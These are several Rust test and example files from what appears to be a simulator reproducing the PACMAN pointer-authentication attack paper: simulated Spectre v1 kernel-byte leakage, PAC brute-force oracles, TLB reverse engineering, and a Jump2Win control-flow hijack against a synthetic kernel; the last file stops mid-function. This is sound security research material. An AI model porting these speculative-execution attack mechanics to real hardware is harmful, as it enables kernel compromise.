        (arb_reg(), -8i32..8).prop_map(|(rt, offset)| Inst::Cbz { rt, offset }),
        (arb_reg(), 0u8..64, -8i32..8).prop_map(|(rt, bit, offset)| Inst::Tbnz { rt, bit, offset }),
        arb_reg().prop_map(|rn| Inst::Br { rn }),
        arb_reg().prop_map(|rn| Inst::Blr { rn }),
        (0u8..4, arb_reg(), arb_reg()).prop_map(|(k, rd, m)| Inst::Pac {
            key: PacKey::from_index(k).expect("< 4"),
            rd,
            modifier: PacModifier::Reg(m),
        }),
        (0u8..4, arb_reg()).prop_map(|(k, rd)| Inst::Aut {
            key: PacKey::from_index(k).expect("< 4"),
            rd,
            modifier: PacModifier::Zero,
        }),
        (any::<bool>(), arb_reg()).prop_map(|(data, rd)| Inst::Xpac { data, rd }),
        (arb_reg(), 0u8..16)
            .prop_map(|(rd, s)| Inst::Mrs { rd, sysreg: SysReg::from_index(s).expect("< 16") }),
        (0u8..16, arb_reg())
            .prop_map(|(s, rn)| Inst::Msr { sysreg: SysReg::from_index(s).expect("< 16"), rn }),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn random_programs_never_panic_the_simulator(
        program in prop::collection::vec(arb_inst(), 1..64),
        seed_regs in prop::collection::vec(any::<u64>(), 4),
    ) {
        let mut cfg = MachineConfig::default();
        cfg.seed = 7;
        let mut m = Machine::new(cfg);
        m.map_region(CODE, 4 * program.len() as u64 + 64, Perms::user_rwx());
        m.map_region(0x80_0000, 0x10000, Perms::user_rw());
        // Every instruction the generator produces must encode.
        for inst in &program {
            prop_assert!(encode(inst).is_ok(), "unencodable {inst}");
        }
        m.load_program(CODE, &program);
        m.cpu.pc = CODE;
        m.cpu.el = El::El0;
        for (i, &v) in seed_regs.iter().enumerate() {
            m.cpu.set(Reg::x(i as u8), v);
        }
        m.cpu.set(Reg::SP, 0x80_8000);
        // Any Ok/Err outcome is acceptable; a Rust panic is the bug.
        let _ = m.run(2_000);
    }

    #[test]
    fn random_programs_are_deterministic(
        program in prop::collection::vec(arb_inst(), 1..32),
    ) {
        let run = || {
            let mut cfg = MachineConfig::default();
            cfg.seed = 3;
            let mut m = Machine::new(cfg);
            m.map_region(CODE, 4 * program.len() as u64 + 64, Perms::user_rwx());
            m.map_region(0x80_0000, 0x10000, Perms::user_rw());
            m.load_program(CODE, &program);
            m.cpu.pc = CODE;
            m.cpu.set(Reg::SP, 0x80_8000);
            let outcome = m.run(500);
            (format!("{outcome:?}"), m.cpu.regs, m.cycles, m.stats.retired)
        };
        prop_assert_eq!(run(), run());
    }
}
