//! The attack on the efficiency-core configuration.
//!
//! The paper targets the p-cores because they "provided a more reliable
//! attack surface due to a higher degree of speculation" (§5) — but the
//! gadget mechanics do not depend on the Table 2 cache geometry. With the
//! e-core cache configuration (and the same TLB hierarchy the paper
//! reverse engineered on p-cores), the oracle still works; with a
//! p-core-sized speculation window it is reliable, and shrinking the
//! window below the gadget length models the low-speculation regime where
//! the attack dies.

#![allow(clippy::field_reassign_with_default)] // building configs by mutation is the intended style

use pacman::prelude::*;
use pacman::uarch::ClusterCaches;

fn boot_ecore(window: u32) -> System {
    let mut cfg = SystemConfig::default();
    cfg.machine.os_noise = 0.0;
    cfg.machine.core = CoreKind::ECore;
    cfg.machine.speculation_window = window;
    System::boot(cfg)
}

#[test]
fn ecore_reports_its_table2_geometry() {
    let sys = boot_ecore(48);
    assert_eq!(sys.machine.config().core, CoreKind::ECore);
    let caches = ClusterCaches::for_core(CoreKind::ECore);
    assert_eq!(caches.l2.total_bytes(), 4 * 1024 * 1024);
    assert_eq!(sys.machine.mem.l1d.params().total_bytes(), 64 * 1024);
}

#[test]
fn the_oracle_works_on_the_ecore_cache_configuration() {
    let mut sys = boot_ecore(48);
    let set = sys.pick_quiet_dtlb_set();
    let target = sys.alloc_target(set);
    let true_pac = sys.true_pac(target);
    let mut oracle = DataPacOracle::new(&mut sys).expect("oracle");
    assert!(oracle.test_pac(&mut sys, target, true_pac).expect("trial").is_correct());
    assert!(!oracle.test_pac(&mut sys, target, true_pac ^ 1).expect("trial").is_correct());
    assert_eq!(sys.kernel.crash_count(), 0);
}

#[test]
fn a_low_speculation_core_is_not_attackable() {
    // The §5 intuition, modelled: a core that barely speculates past a
    // branch never reaches the gadget's transmit instruction.
    let mut sys = boot_ecore(2);
    let set = sys.pick_quiet_dtlb_set();
    let target = sys.alloc_target(set);
    let true_pac = sys.true_pac(target);
    let mut oracle = DataPacOracle::new(&mut sys).expect("oracle");
    assert!(
        !oracle.test_pac(&mut sys, target, true_pac).expect("trial").is_correct(),
        "with a 2-instruction window the transmit never issues"
    );
    assert_eq!(sys.kernel.crash_count(), 0);
}
