//! Golden-trace snapshots of the Figure 8 gadgets' speculation-event
//! sequences.
//!
//! For a fixed kernel seed and a quiet machine the wrong-path episode a
//! PACMAN gadget executes is fully deterministic, so its traced event
//! sequence is a behavioural fingerprint of the speculative core: any
//! change to the shadow window, eager squash, fault suppression or the
//! gadget kexts shows up as a diff here before it shows up as a silently
//! different oracle distribution.
//!
//! Snapshots live in `tests/snapshots/`. To (re-)bless after an
//! *intentional* microarchitectural change:
//!
//! ```text
//! PACMAN_BLESS=1 cargo test --test golden_traces
//! ```

use std::fs;
use std::path::PathBuf;

use pacman::attack::{System, SystemConfig};
use pacman::isa::ptr::with_pac_field;

/// Training iterations before the traced trigger (same protocol as the
/// oracles and the `timeline` CLI command).
const TRAIN_ITERS: usize = 16;

fn quiet_system() -> System {
    let mut cfg = SystemConfig::default();
    cfg.machine.os_noise = 0.0;
    System::boot(cfg)
}

/// Runs one traced gadget invocation and renders the event sequence,
/// one `SpecEvent` per line.
fn gadget_trace(sys: &mut System, sc: u64, pac: u16, target: u64) -> String {
    for _ in 0..TRAIN_ITERS {
        sys.kernel.syscall(&mut sys.machine, sc, &[0, 0, 1]).expect("training syscall");
    }
    let mut payload = [0u8; 24];
    payload[16..].copy_from_slice(&with_pac_field(target, pac).to_le_bytes());
    let buf = sys.write_payload(&payload);
    let kernel = &mut sys.kernel;
    let (result, events) = sys.machine.with_trace(|m| kernel.syscall(m, sc, &[buf, 24, 0]));
    result.expect("traced gadget syscall");
    let mut out = String::new();
    for e in &events {
        out.push_str(&e.to_string());
        out.push('\n');
    }
    out
}

/// Diffs `actual` against `tests/snapshots/<name>`, or rewrites the
/// snapshot when `PACMAN_BLESS=1` is set.
fn check_snapshot(name: &str, actual: &str) {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/snapshots");
    let path = dir.join(name);
    if std::env::var_os("PACMAN_BLESS").is_some_and(|v| v == "1") {
        fs::create_dir_all(&dir).expect("create snapshot dir");
        fs::write(&path, actual).expect("bless snapshot");
        return;
    }
    let expected = fs::read_to_string(&path).unwrap_or_else(|_| {
        panic!("missing snapshot {}; create it with PACMAN_BLESS=1", path.display())
    });
    assert_eq!(
        expected, actual,
        "golden trace '{name}' diverged; if the change is intentional, \
         re-bless with PACMAN_BLESS=1"
    );
}

/// One named (gadget, guess) trace on a freshly booted quiet system.
fn snapshot_case(name: &str, instr: bool, correct: bool) {
    let mut sys = quiet_system();
    let set = sys.pick_quiet_dtlb_set();
    let target = sys.alloc_target(set);
    let true_pac = sys.true_pac(target);
    let sc = if instr { sys.gadget.instr_gadget } else { sys.gadget.data_gadget };
    let pac = if correct { true_pac } else { true_pac ^ 5 };
    let trace = gadget_trace(&mut sys, sc, pac, target);
    assert!(!trace.is_empty(), "the traced gadget produced no speculation events");
    check_snapshot(name, &trace);
    assert_eq!(sys.kernel.crash_count(), 0, "tracing must stay crash-free");
}

#[test]
fn fig8a_data_gadget_correct_guess_trace_is_golden() {
    snapshot_case("fig8a_correct.txt", false, true);
}

#[test]
fn fig8a_data_gadget_wrong_guess_trace_is_golden() {
    snapshot_case("fig8a_wrong.txt", false, false);
}

#[test]
fn fig8b_instr_gadget_correct_guess_trace_is_golden() {
    snapshot_case("fig8b_correct.txt", true, true);
}

#[test]
fn fig8b_instr_gadget_wrong_guess_trace_is_golden() {
    snapshot_case("fig8b_wrong.txt", true, false);
}
