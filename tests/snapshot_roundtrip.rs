//! Property test: `System::snapshot` → `System::restore` is invisible
//! to the program being run.
//!
//! Over seeded generated programs (the conformance harness's generator,
//! `pacman::reference::gen`), a run interrupted at an arbitrary
//! instruction boundary, snapshotted, and continued on the *restored*
//! system must be bit-identical to the uninterrupted control run —
//! same stop/trap outcome at the same step, same architectural
//! registers, same cycle count, same full telemetry export. This is
//! the platform-level guarantee the durable daemon's machine-pool
//! donation/seeding (DESIGN.md §13) leans on: a seed blob may be
//! adopted by any future lease without perturbing its experiments.

use pacman::attack::{System, SystemConfig};
use pacman::reference::diff::quiet_config;
use pacman::reference::gen::{generate, scenario_seed};
use pacman::uarch::{Machine, MachineConfig};
use proptest::prelude::*;

/// Steps `m` up to `budget` instructions; returns how many steps ran
/// and a debug rendering of why it ended (`Stop`, `Trap`, or budget
/// exhaustion). The rendering makes outcomes comparable without
/// demanding `PartialEq` of the machine's error types.
fn drive(m: &mut Machine, budget: u64) -> (u64, String) {
    for i in 0..budget {
        match m.step() {
            Ok(None) => {}
            Ok(Some(stop)) => return (i + 1, format!("stop: {stop:?}")),
            Err(trap) => return (i + 1, format!("trap: {trap:?}")),
        }
    }
    (budget, "budget exhausted".to_string())
}

/// Full-state equality between two systems: architectural CPU state,
/// cycle counter, and the complete telemetry export (which covers the
/// cache/TLB/predictor hit counters, so microarchitectural divergence
/// shows up even when the architectural state happens to agree).
fn assert_same(label: &str, a: &System, b: &System) {
    assert_eq!(a.machine.cycles, b.machine.cycles, "{label}: cycle counters diverged");
    assert_eq!(
        format!("{:?}", a.machine.cpu),
        format!("{:?}", b.machine.cpu),
        "{label}: architectural CPU state diverged"
    );
    assert_eq!(
        a.telemetry_snapshot(),
        b.telemetry_snapshot(),
        "{label}: telemetry exports diverged"
    );
}

/// Generous per-run step budget: generated programs are a page of
/// instructions at most and terminate (or trap) well inside this.
const BUDGET: u64 = 512;

fn config_for(seed: u64) -> SystemConfig {
    SystemConfig {
        machine: MachineConfig { seed: seed ^ 0xC0FF_EE00, ..quiet_config() },
        kernel_seed: seed.rotate_left(17) | 1,
        ..SystemConfig::default()
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(12))]
    #[test]
    fn snapshot_restore_is_invisible_to_generated_programs(
        seed: u64,
        split in 1u64..64,
    ) {
        let scenario = generate(scenario_seed(0xD00D_F00D, seed));

        // Control: the uninterrupted run.
        let mut control = System::boot(config_for(seed));
        scenario.install_uarch(&mut control.machine);
        let control_end = drive(&mut control.machine, BUDGET);

        // Interrupted: run to the split point, snapshot, restore into a
        // brand-new system, and finish BOTH the original and the
        // restored copy. All three must agree everywhere.
        let mut interrupted = System::boot(config_for(seed));
        scenario.install_uarch(&mut interrupted.machine);
        let (_, pre_end) = drive(&mut interrupted.machine, split);

        let blob = interrupted.snapshot();
        let mut restored = System::restore(&blob).expect("snapshot loads");
        assert_same("at the split point", &interrupted, &restored);

        if pre_end == "budget exhausted" {
            // The program was still running at the boundary (it did not
            // stop or trap within the first `split` steps): continue
            // both halves and require identical endings.
            let remaining = BUDGET - split;
            let end_a = drive(&mut interrupted.machine, remaining);
            let end_b = drive(&mut restored.machine, remaining);
            assert_eq!(end_a, end_b, "restored run ended differently");
            assert_eq!(
                (split + end_a.0, end_a.1.clone()),
                control_end,
                "stitched run diverged from the uninterrupted control"
            );
        }
        assert_same("after completion", &interrupted, &restored);
        assert_same("against the control", &control, &restored);
    }
}
