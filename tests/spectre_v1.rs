//! Spectre v1 on the same substrate (paper §2.4 background).
//!
//! PACMAN leaks a *verification result*; classic Spectre v1 leaks *data*.
//! Both need the same machinery — branch mistraining, wrong-path
//! execution, and a µ-architectural transmit — so a faithful substrate
//! must reproduce v1 too. This test builds the canonical bounds-check-
//! bypass kernel gadget and recovers a secret kernel byte from EL0
//! through the shared dTLB, byte-exact, with zero crashes.

#![allow(clippy::field_reassign_with_default)] // building configs by mutation is the intended style

use pacman::isa::ptr::{VirtualAddress, PAGE_SIZE};
use pacman::isa::{Asm, Cond, Inst, Reg};
use pacman::kernel::layout;
use pacman::prelude::*;
use pacman::uarch::Perms;

/// The probe array: 256 kernel pages, one per possible byte value, placed
/// 256-set aligned so page `v` maps to dTLB set `v`.
const PROBE_BASE: u64 = layout::PLACED_REGION_BASE + 0x4_0000_0000;
const BOUND: u16 = 16;
const SECRET: u8 = 0x5A; // dTLB set 90 — clear of the hot service sets

#[test]
fn spectre_v1_leaks_a_kernel_byte_through_the_dtlb() {
    let mut cfg = SystemConfig::default();
    cfg.machine.os_noise = 0.0;
    let mut sys = System::boot(cfg);

    // Kernel data: a small array and, at a known distance past it, the
    // secret byte the attacker is after.
    let array1 = sys.kernel.alloc_data_page(&mut sys.machine);
    let secret_va = sys.kernel.alloc_data_page(&mut sys.machine) + 0x33;
    assert!(sys.machine.mem.debug_write_bytes(secret_va, &[SECRET]));
    // Probe array pages (contents irrelevant; only translations matter).
    for v in 0..256u64 {
        sys.machine.map_page(PROBE_BASE + v * PAGE_SIZE, Perms::kernel_rw());
    }
    assert_eq!(VirtualAddress::new(PROBE_BASE).vpn() % 256, 0, "probe pages must align to sets");

    // The victim syscall: if (idx < BOUND) { v = array1[idx]; touch probe[v]; }
    let mut a = Asm::new();
    let done = a.new_label();
    a.mov_imm64(Reg::X9, u64::from(BOUND));
    a.push(Inst::CmpReg { rn: Reg::X0, rm: Reg::X9 });
    a.b_cond(Cond::Ge, done); // the mistrained bounds check
    a.mov_imm64(Reg::X10, array1);
    a.push(Inst::AddReg { rd: Reg::X10, rn: Reg::X10, rm: Reg::X0 });
    a.push(Inst::Ldrb { rt: Reg::X11, rn: Reg::X10, offset: 0 });
    a.push(Inst::LslImm { rd: Reg::X11, rn: Reg::X11, shift: 14 });
    a.mov_imm64(Reg::X12, PROBE_BASE);
    a.push(Inst::AddReg { rd: Reg::X12, rn: Reg::X12, rm: Reg::X11 });
    a.push(Inst::Ldr { rt: Reg::X13, rn: Reg::X12, offset: 0 });
    a.bind(done);
    a.push(Inst::MovZ { rd: Reg::X0, imm: 0, shift: 0 });
    a.push(Inst::Eret);
    let sc = sys.kernel.register_syscall(&mut sys.machine, &a.assemble().unwrap());

    // The out-of-bounds index reaching the secret.
    let evil_idx = secret_va - array1;
    assert!(evil_idx >= u64::from(BOUND));

    // Recover the byte: for each candidate value, Prime+Probe the dTLB
    // set of probe page `v` around one mistrained trigger.
    let mut recovered = None;
    let mut hot = sys.hot_dtlb_sets();
    // The gadget's *first* speculative load touches array1[evil_idx]'s own
    // page — the attacker knows both values, computes that set, and
    // excludes it (it fires for every candidate alike).
    hot.push(VirtualAddress::new(array1 + evil_idx).vpn() % 256);
    hot.push(VirtualAddress::new(array1).vpn() % 256);
    for v in 0..=255u8 {
        // Sets the syscall path touches on every call are always noisy;
        // a byte landing there is unrecoverable through this channel and
        // a real attacker skips them (our secret deliberately does not).
        if hot.contains(&u64::from(v)) {
            continue;
        }
        let probe_page = PROBE_BASE + u64::from(v) * PAGE_SIZE;
        let pp = pacman::attack::probe::PrimeProbe::for_target(&mut sys, probe_page);
        // Mistrain in-bounds, then fire out-of-bounds.
        for i in 0..8 {
            sys.kernel.syscall(&mut sys.machine, sc, &[u64::from(i % BOUND)]).unwrap();
        }
        pp.reset(&mut sys).unwrap();
        pp.prime(&mut sys).unwrap();
        sys.kernel.syscall(&mut sys.machine, sc, &[evil_idx]).unwrap();
        let misses = pp.probe(&mut sys).unwrap();
        if misses >= 5 {
            recovered = Some(v);
            break;
        }
    }

    assert_eq!(recovered, Some(SECRET), "the secret byte must be recoverable from EL0");
    assert_eq!(sys.kernel.crash_count(), 0, "v1 is crash-free too");
}

#[test]
fn spectre_v1_is_silent_for_in_bounds_indices() {
    // Control experiment: with in-bounds indices there is no secret-
    // dependent footprint in the secret's probe set.
    let mut cfg = SystemConfig::default();
    cfg.machine.os_noise = 0.0;
    let mut sys = System::boot(cfg);
    let array1 = sys.kernel.alloc_data_page(&mut sys.machine);
    for v in 0..256u64 {
        sys.machine.map_page(PROBE_BASE + v * PAGE_SIZE, Perms::kernel_rw());
    }
    let mut a = Asm::new();
    let done = a.new_label();
    a.mov_imm64(Reg::X9, u64::from(BOUND));
    a.push(Inst::CmpReg { rn: Reg::X0, rm: Reg::X9 });
    a.b_cond(Cond::Ge, done);
    a.mov_imm64(Reg::X10, array1);
    a.push(Inst::AddReg { rd: Reg::X10, rn: Reg::X10, rm: Reg::X0 });
    a.push(Inst::Ldrb { rt: Reg::X11, rn: Reg::X10, offset: 0 });
    a.push(Inst::LslImm { rd: Reg::X11, rn: Reg::X11, shift: 14 });
    a.mov_imm64(Reg::X12, PROBE_BASE);
    a.push(Inst::AddReg { rd: Reg::X12, rn: Reg::X12, rm: Reg::X11 });
    a.push(Inst::Ldr { rt: Reg::X13, rn: Reg::X12, offset: 0 });
    a.bind(done);
    a.push(Inst::MovZ { rd: Reg::X0, imm: 0, shift: 0 });
    a.push(Inst::Eret);
    let sc = sys.kernel.register_syscall(&mut sys.machine, &a.assemble().unwrap());

    // Monitor the set of a high probe page that no in-bounds byte (the
    // zero-filled array reads as 0) should ever touch.
    let watched = PROBE_BASE + u64::from(SECRET) * PAGE_SIZE;
    let pp = pacman::attack::probe::PrimeProbe::for_target(&mut sys, watched);
    for i in 0..8 {
        sys.kernel.syscall(&mut sys.machine, sc, &[u64::from(i % BOUND)]).unwrap();
    }
    pp.reset(&mut sys).unwrap();
    pp.prime(&mut sys).unwrap();
    sys.kernel.syscall(&mut sys.machine, sc, &[3]).unwrap(); // in-bounds
    assert!(pp.probe(&mut sys).unwrap() <= 1, "no footprint without the secret access");
}
