//! §4.3 reproduction: the PACMAN-gadget census.
//!
//! ```text
//! cargo run --release --example gadget_census [functions]
//! ```
//!
//! Generates a synthetic PA-enabled kernel image (we cannot ship Apple's
//! XNU binary) and runs the Ghidra-style scanner over it: enumerate
//! conditional branches, inspect 32 instructions down both directions,
//! match `AUT` destinations flowing into memory/branch address operands.
//! The paper's XNU census found 55,159 gadgets (13,867 data / 41,292
//! instruction) with a mean branch-to-transmit distance of 8.1
//! instructions; the shape to check here is *abundance*, *instruction
//! dominance* and *short distances*.

use pacman::gadget::{scan_image, synthesize, ImageSpec, ScanConfig};

fn main() {
    let functions: usize = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(2000);

    let spec = ImageSpec { functions, seed: 0xC0DE, ..ImageSpec::default() };
    let image = synthesize(&spec);
    println!(
        "synthetic PA-enabled image: {} functions, {} instructions ({} KiB)",
        image.functions,
        image.instructions,
        image.bytes.len() / 1024
    );

    let report = scan_image(&image.bytes, &ScanConfig::default());
    println!("\nconditional branches inspected: {}", report.conditional_branches);
    println!("potential PACMAN gadgets found: {}", report.total());
    println!("  data gadgets:        {:>8}", report.data_count());
    println!("  instruction gadgets: {:>8}", report.instruction_count());
    println!("mean branch->transmit distance: {:.1} instructions", report.mean_distance());

    let ratio = report.instruction_count() as f64 / report.data_count().max(1) as f64;
    println!("\ninstruction/data ratio: {ratio:.2} (paper's XNU census: ~2.98)");
    println!(
        "gadget density: {:.1} per 1000 instructions",
        1000.0 * report.total() as f64 / report.instructions as f64
    );
    println!("\nconclusion: PACMAN gadgets are readily discoverable in PA-enabled code.");
}
