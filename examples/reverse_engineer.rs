//! §7 reproduction: reverse engineering the TLB hierarchy (Figures 5–7).
//!
//! ```text
//! cargo run --release --example reverse_engineer
//! ```
//!
//! Runs the three stride sweeps of Figure 5 under PacmanOS-style control
//! (state flushes, PMC0 clock), derives the Figure 6 parameters, and
//! compares the timers of Figure 7 / Table 1.

use pacman::attack::report::AsciiChart;
use pacman::attack::sweep::{
    cache_tlb_sweep, data_tlb_sweep, derive_hierarchy, experiment_machine, itlb_sweep,
};
use pacman::attack::timing::{evaluate_timer, table1};
use pacman::prelude::*;

fn chart(title: &str, series: &[pacman::attack::sweep::SweepSeries]) {
    let mut c = AsciiChart::new(title);
    for s in series {
        let points: Vec<(usize, u64)> =
            s.points.iter().filter(|p| p.n % 2 == 0 || p.n == 1).map(|p| (p.n, p.median)).collect();
        c.series(format!("stride {}", s.label), points);
    }
    println!("{c}");
}

fn main() {
    let mut m = experiment_machine();

    println!("### Figure 5(a): data-load sweep (formula x + i*stride + i*128B) ###\n");
    let fig5a = data_tlb_sweep(&mut m, &[1, 32, 256, 2048]).expect("sweep");
    chart("median reload latency (cycles) vs N", &fig5a);

    println!("### Figure 5(b): cache/TLB interaction sweep (formula x + i*stride) ###\n");
    let strides = [256 * 128, 256 * 16384, 2048 * 16384];
    let fig5b = cache_tlb_sweep(&mut m, &strides).expect("sweep");
    chart("median reload latency (cycles) vs N", &fig5b);

    println!("### Figure 5(c): instruction-fetch sweep (branch to targets, reload as data) ###\n");
    let fig5c = itlb_sweep(&mut m, &[32, 256, 2048]).expect("sweep");
    chart("median reload latency (cycles) vs N", &fig5c);

    println!("### Figure 6: derived TLB hierarchy ###\n");
    let mut m2 = experiment_machine();
    let f = derive_hierarchy(&mut m2).expect("derivation");
    println!("finding 1: L1 dTLB eviction at {} addresses, stride 256 x 16KB", f.dtlb_ways);
    println!("finding 2: L2 TLB eviction at {} addresses, stride 2048 x 16KB", f.l2_ways);
    println!("finding 3: L1 iTLB eviction at {} branches,  stride 32 x 16KB", f.itlb_ways);
    println!(
        "iTLB victims become visible to loads (dTLB backing store): {}",
        f.itlb_victims_visible_to_loads
    );

    println!("\n### Figure 7 / Table 1: timers ###\n");
    let mut sys = System::boot(SystemConfig::default());
    for source in [TimingSource::Pmc0, TimingSource::MultiThread] {
        if source == TimingSource::Pmc0 {
            let pmc = sys.pmc;
            pmc.enable(&mut sys.kernel, &mut sys.machine);
        }
        sys.machine.set_timing_source(source);
        let eval = evaluate_timer(&mut sys, 300).expect("timer eval");
        println!(
            "{source:?}: dTLB hit {:?}..{:?} ticks, miss {:?}..{:?}, walk median {:?}, threshold {:?}",
            eval.dtlb_hits.min(),
            eval.dtlb_hits.max(),
            eval.dtlb_misses.min(),
            eval.dtlb_misses.max(),
            eval.walks.median(),
            eval.threshold,
        );
    }
    println!();
    for row in table1(&mut sys).expect("table 1") {
        println!(
            "{:<28} {:<16} EL0 by default: {:<5} usable for attack: {}",
            row.name, row.register, row.el0_by_default, row.usable_for_attack
        );
    }
}
