//! Figure 3 made visible: the speculation-event timeline of a PACMAN
//! gadget execution.
//!
//! ```text
//! cargo run --release --example gadget_timeline
//! ```
//!
//! Enables the machine's speculation tracer, triggers the data and
//! instruction gadgets with a correct and an incorrect PAC, and prints
//! the recorded event sequences — the concrete counterpart of the
//! paper's Figure 3(c) and 3(d) timelines.

use pacman::isa::ptr::with_pac_field;
use pacman::prelude::*;

fn show(title: &str, sys: &mut System, syscall: u64, signed: u64) {
    // Re-train between runs so the outer branch mispredicts.
    for _ in 0..16 {
        sys.kernel.syscall(&mut sys.machine, syscall, &[0, 0, 1]).expect("training");
    }
    let mut payload = [0u8; 24];
    payload[16..].copy_from_slice(&signed.to_le_bytes());
    let buf = sys.write_payload(&payload);
    sys.machine.trace.enable();
    sys.kernel.syscall(&mut sys.machine, syscall, &[buf, 24, 0]).expect("trigger");
    let events = sys.machine.trace.take();
    sys.machine.trace.disable();

    println!("\n### {title} ###");
    // Only the gadget's own shadow is interesting: take the last episode
    // containing an AUT event.
    let mut episodes: Vec<Vec<_>> = Vec::new();
    for e in events {
        if matches!(e, pacman::uarch::SpecEvent::ShadowOpened { .. }) {
            episodes.push(Vec::new());
        }
        if let Some(ep) = episodes.last_mut() {
            ep.push(e);
        }
    }
    let gadget_episode = episodes
        .into_iter()
        .rev()
        .find(|ep| ep.iter().any(|e| matches!(e, pacman::uarch::SpecEvent::AutExecuted { .. })));
    match gadget_episode {
        Some(ep) => {
            for e in ep {
                println!("  {e}");
            }
        }
        None => println!("  (no speculative AUT executed)"),
    }
}

fn main() {
    let mut cfg = SystemConfig::default();
    cfg.machine.os_noise = 0.0;
    let mut sys = System::boot(cfg);
    let set = sys.pick_quiet_dtlb_set();
    let target = sys.alloc_target(set);
    let true_pac = sys.true_pac(target);
    println!("target pointer {target:#x}, true PAC {true_pac:#06x}");

    let data = sys.gadget.data_gadget;
    let instr = sys.gadget.instr_gadget;
    show("Figure 3(c): data gadget, CORRECT PAC", &mut sys, data, with_pac_field(target, true_pac));
    show(
        "Figure 3(c): data gadget, WRONG PAC",
        &mut sys,
        data,
        with_pac_field(target, true_pac ^ 5),
    );
    show(
        "Figure 3(d): instruction gadget, CORRECT PAC",
        &mut sys,
        instr,
        with_pac_field(target, true_pac),
    );
    show(
        "Figure 3(d): instruction gadget, WRONG PAC",
        &mut sys,
        instr,
        with_pac_field(target, true_pac ^ 5),
    );

    println!("\nkernel crashes: {}", sys.kernel.crash_count());
}
