//! §8.3 reproduction: the Jump2Win control-flow hijack, end to end.
//!
//! ```text
//! cargo run --release --example jump2win [window]
//! ```
//!
//! An unprivileged EL0 attacker:
//!
//! 1. brute-forces the IA-key PAC of the kernel's `win()` address through
//!    the cpp kext's salt-matched PACMAN gadget,
//! 2. brute-forces the DA-key PAC of the fake-vtable address,
//! 3. overflows `object1.buf` into `object2`'s signed vtable pointer
//!    (Figure 9),
//! 4. triggers the C++-style dispatch syscall — both `AUT`s pass and the
//!    kernel calls `win()`.
//!
//! By default the PAC search windows are `window` candidates wide (2048)
//! and are positioned to contain the true PACs, purely to keep the demo
//! fast; pass `65536` for the paper's full-space sweep (the attack logic
//! is identical — it simply tests more candidates, ~2.94 simulated
//! minutes per key in the paper's measurement).

use pacman::isa::PacKey;
use pacman::prelude::*;

fn main() {
    let window: u32 = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(2048);

    let mut cfg = SystemConfig::default();
    cfg.machine.os_noise = 0.0;
    let mut sys = System::boot(cfg);
    println!("victim object at {:#x}; win() at {:#x}", sys.cpp.obj2, sys.cpp.win_fn);

    let mut driver = Jump2Win::new().with_samples(3).with_train_iters(8);
    if window < 65536 {
        // Demo mode: centre one narrow window per phase on the true PAC so
        // the sweep finishes quickly. The attack logic is byte-identical;
        // only the candidate list shrinks.
        let t1 = sys.true_pac_with_salt(PacKey::Ia, sys.cpp.win_fn);
        let t2 = sys.true_pac_with_salt(PacKey::Da, sys.cpp.obj1);
        let centre = |t: u16| (t.wrapping_sub((window / 2) as u16), window);
        driver.phase_windows = Some([centre(t1), centre(t2)]);
        println!("demo mode: sweeping {window} candidates per phase");
    } else {
        driver.window = None;
        println!("full 16-bit sweep: this tests up to 65536 candidates per key");
    }

    match driver.run(&mut sys) {
        Ok(report) => {
            println!("\nrecovered PAC(win, IA)    = {:#06x}", report.pac_win);
            println!("recovered PAC(vtable, DA) = {:#06x}", report.pac_vtable);
            println!("PAC candidates tested     = {}", report.guesses_tested);
            println!("syscalls issued           = {}", report.syscalls);
            let secs = report.cycles as f64 / sys.machine.config().clock_hz as f64;
            println!("simulated attack time     = {secs:.3} s");
            println!("kernel crashes            = {}", report.crashes);
            println!(
                "\ncontrol flow hijacked: {}",
                if report.hijacked { "YES — win() executed at EL1" } else { "no" }
            );
            assert!(report.hijacked);
            assert_eq!(report.crashes, 0);
        }
        Err(e) => {
            println!("attack failed: {e}");
            std::process::exit(1);
        }
    }
}
