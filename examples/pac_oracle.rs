//! Figure 8 reproduction: PAC-oracle miss-count distributions.
//!
//! ```text
//! cargo run --release --example pac_oracle [trials-per-class]
//! ```
//!
//! Runs the data-gadget and instruction-gadget oracles for many trials,
//! half with the correct PAC and half with random incorrect PACs, and
//! prints the miss-count histograms of Figure 8(a)/(b) plus the derived
//! reliability numbers (the paper reports ≤1 miss for ≥99.2% of incorrect
//! trials and ≥5 misses for ≥99.6% of correct trials).

use pacman::attack::oracle::CORRECT_MISS_THRESHOLD;
use pacman::prelude::*;

fn histogram(label: &str, counts: &[usize]) {
    let mut buckets = [0usize; 13];
    for &c in counts {
        buckets[c.min(12)] += 1;
    }
    println!("\n{label} ({} trials)", counts.len());
    println!("misses | frequency");
    for (misses, &n) in buckets.iter().enumerate() {
        if n > 0 {
            let pct = 100.0 * n as f64 / counts.len() as f64;
            println!("{misses:>6} | {n:>5}  ({pct:5.1}%)  {}", "#".repeat((pct / 2.0) as usize));
        }
    }
}

fn reliability(correct: &[usize], incorrect: &[usize]) {
    let good = correct.iter().filter(|&&m| m >= CORRECT_MISS_THRESHOLD).count() as f64
        / correct.len() as f64;
    let clean = incorrect.iter().filter(|&&m| m <= 1).count() as f64 / incorrect.len() as f64;
    println!("correct-PAC trials with >= {CORRECT_MISS_THRESHOLD} misses: {:.1}%", 100.0 * good);
    println!("incorrect-PAC trials with <= 1 miss:  {:.1}%", 100.0 * clean);
}

fn run(
    sys: &mut System,
    oracle: &mut dyn PacOracle,
    target: u64,
    true_pac: u16,
    trials: usize,
) -> (Vec<usize>, Vec<usize>) {
    let mut correct = Vec::with_capacity(trials);
    let mut incorrect = Vec::with_capacity(trials);
    for i in 0..trials {
        correct.push(oracle.trial(sys, target, true_pac).expect("trial"));
        // A deterministic spread of wrong PACs.
        let wrong = true_pac ^ ((1 + (i as u16 * 2654435761u32 as u16)) | 1);
        incorrect.push(oracle.trial(sys, target, wrong).expect("trial"));
    }
    (correct, incorrect)
}

fn main() {
    let trials: usize = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(100);

    let mut sys = System::boot(SystemConfig::default());
    let set = sys.pick_quiet_dtlb_set();
    let target = sys.alloc_target(set);
    let true_pac = sys.true_pac(target);
    println!("target {target:#x}, monitored dTLB set {set}, OS noise enabled");

    println!("\n=== Figure 8(a): data PACMAN gadget ===");
    let mut data = DataPacOracle::new(&mut sys).expect("oracle");
